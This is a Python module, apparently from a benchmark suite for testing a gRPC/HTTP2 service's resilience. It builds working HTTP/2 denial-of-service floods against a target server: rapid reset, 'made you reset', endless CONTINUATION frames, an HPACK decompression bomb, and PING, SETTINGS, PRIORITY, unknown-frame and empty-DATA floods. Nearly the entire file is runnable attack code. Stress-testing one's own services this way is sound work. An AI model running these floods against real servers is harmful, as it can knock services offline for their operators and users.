"""Floods of HTTP/2 frames, built by the libraries hyperframe and hpack."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.attack.attack import AttackRun, attack
from benchmarks.attack.attacks.connections import PREFACE
from benchmarks.attack.http2 import grpc_message, request_headers
from benchmarks.attack.messages import generate
from benchmarks.attack.target import HEALTH, SERVICE, Target

FRAMES = 500
"""Frames per write."""
CONNECTIONS = 4
MAX_STREAM = 2**31 - 1
CANCEL = 8
MAX_FRAME_BYTES = 16_384
EMPTY_COOKIE = b"\xa0"
"""Reference to entry 32 of the static table of HPACK: a cookie without a value."""
FIRST_DYNAMIC_INDEX = 62
"""Index of the entry that was added last to the table of compressed headers."""


def header_block(target: Target, path: str, *extra: tuple[str, str]) -> bytes:
    """Return the compressed headers of a request, which do not depend on those that were sent before."""
    headers = request_headers(target.address, path, extra)
    return Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in headers])


def headers_frame(stream: int, block: bytes, *flags: str) -> bytes:
    """Return a HEADERS frame."""
    return HeadersFrame(stream, data=block, flags=flags).serialize()


async def _flood(run: AttackRun, writes: Callable[[], Iterator[bytes]]) -> None:
    """Send bytes on several connections, and connect again where the server closes one."""

    async def client() -> None:
        async with run.raw() as connection:
            await connection.send(PREFACE + SettingsFrame(0).serialize())
            for data in writes():
                await connection.send(data)
                run.outcomes["sent"] += 1

    await run.repeat(CONNECTIONS, client)


def _same(*frames: Frame) -> Callable[[], Iterator[bytes]]:
    data = b"".join(frame.serialize() for frame in frames) * FRAMES
    return lambda: itertools.repeat(data)


@attack("requests that are reset at once, again and again (rapid reset)")
async def rapid_reset(run: AttackRun) -> None:
    """Open streams with whole requests and reset them at once."""
    block = header_block(run.target, SERVICE + "Generate")
    body = grpc_message(generate(run.target, 64))

    def writes() -> Iterator[bytes]:
        for first in range(1, MAX_STREAM, 2 * FRAMES):
            yield b"".join(
                headers_frame(stream, block, "END_HEADERS")
                + DataFrame(stream, data=body, flags=("END_STREAM",)).serialize()
                + RstStreamFrame(stream, error_code=CANCEL).serialize()
                for stream in range(first, min(first + 2 * FRAMES, MAX_STREAM), 2)
            )

    await _flood(run, writes)


@attack("requests that the client makes the server reset (window updates of 0, DATA after the end)")
async def made_you_reset(run: AttackRun) -> None:
    """Open streams and break the protocol on them, so that the server resets them while their calls run."""
    block = header_block(run.target, SERVICE + "Generate")
    body = grpc_message(generate(run.target, 64))
    no_increment = WindowUpdateFrame(0, window_increment=1).serialize()[9:-1] + b"\0"

    def writes() -> Iterator[bytes]:
        for first in range(1, MAX_STREAM, 2 * FRAMES):
            yield b"".join(
                headers_frame(stream, block, "END_HEADERS")
                + DataFrame(stream, data=body, flags=("END_STREAM",)).serialize()
                + b"\0\0\4\x08\0"
                + stream.to_bytes(4, "big")
                + no_increment
                for stream in range(first, min(first + 2 * FRAMES, MAX_STREAM), 2)
            )

    await _flood(run, writes)


@attack("CONTINUATION frames without end", before="held")
async def continuation_flood(run: AttackRun) -> None:
    """Begin headers that never end."""
    block = header_block(run.target, HEALTH + "Check")
    begin = headers_frame(1, block)
    literal = Encoder().encode([NeverIndexedHeaderTuple("x-a", "b" * 100)])
    data = ContinuationFrame(1, data=literal * 100).serialize() * 10
    await _flood(run, lambda: itertools.chain([begin], itertools.repeat(data)))


@attack("headers that refer 16,000 times to an entry of 4 KB (HPACK bomb)")
async def header_bomb(run: AttackRun) -> None:
    """Let 16 KB of compressed headers become 64 MB, by an entry that was sent before or is always known."""
    entry = Encoder().encode([("x-a", "b" * 3900)])
    last_entry = bytes([0x80 | FIRST_DYNAMIC_INDEX])
    begin = headers_frame(1, header_block(run.target, HEALTH + "Check") + entry, "END_HEADERS", "END_STREAM")
    block = header_block(run.target, HEALTH + "Check")
    bombs = [block + entry * (MAX_FRAME_BYTES - len(block)) for entry in (last_entry, EMPTY_COOKIE)]

    def writes() -> Iterator[bytes]:
        yield begin
        for stream in range(3, MAX_STREAM, 2):
            yield headers_frame(stream, bombs[stream // 2 % 2], "END_HEADERS", "END_STREAM")

    await _flood(run, writes)


@attack("PING frames", before="held")
async def ping_flood(run: AttackRun) -> None:
    """Ask for acknowledgements without pause."""
    await _flood(run, _same(PingFrame(0, opaque_data=b"attacker")))


@attack("SETTINGS frames", before="held")
async def settings_flood(run: AttackRun) -> None:
    """Change the settings without pause, each to be acknowledged."""
    await _flood(run, _same(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1, 4: 65_535})))


@attack("PRIORITY and WINDOW_UPDATE frames")
async def priority_flood(run: AttackRun) -> None:
    """Send frames that need no answer for streams that are not open."""
    await _flood(run, _same(PriorityFrame(1, depends_on=3, stream_weight=1), WindowUpdateFrame(0, window_increment=1)))


@attack("frames of unknown types, and wrong lengths")
async def unknown_frames(run: AttackRun) -> None:
    """Send frames that the protocol says to ignore, and ones that it forbids."""
    unknown = b"\0\0\4\xfa\0\0\0\0\1" + b"abcd"
    too_long = b"\xff\xff\xff\0\0\0\0\0\1"
    await _flood(
        run, lambda: itertools.chain(itertools.repeat(unknown * FRAMES, 20), [too_long + bytes(1 << 16)] * 100)
    )


@attack("empty DATA frames on 100 streams of each connection, 4 connections")
async def empty_data_flood(run: AttackRun) -> None:
    """Send frames without content for requests that stay open."""
    block = header_block(run.target, SERVICE + "StreamFeatures")
    streams = range(1, 200, 2)
    begin = b"".join(headers_frame(stream, block, "END_HEADERS") for stream in streams)
    data = b"".join(DataFrame(stream).serialize() for stream in streams) * 5
    await _flood(run, lambda: itertools.chain([begin], itertools.repeat(data)))
